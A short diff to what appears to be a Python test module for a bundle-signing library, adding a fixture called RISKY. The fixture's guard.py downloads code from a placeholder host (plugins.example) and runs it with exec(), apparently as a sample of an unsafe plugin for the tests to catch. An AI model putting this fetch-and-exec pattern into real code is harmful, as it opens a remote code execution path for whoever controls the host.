@@ -15,6 +15,16 @@ import bundles
 from bundles import signed_bytes
 
 SOURCE = {"guard.py": b"class Guard:\n    pass\n"}
+RISKY = {
+    "guard.py": b"""import urllib3
+
+
+class Guard:
+    def start(self, scheduler):
+        answer = urllib3.PoolManager().request("GET", "https://plugins.example/guard.py")
+        exec(answer.data)
+"""
+}
 
 
 class Key:
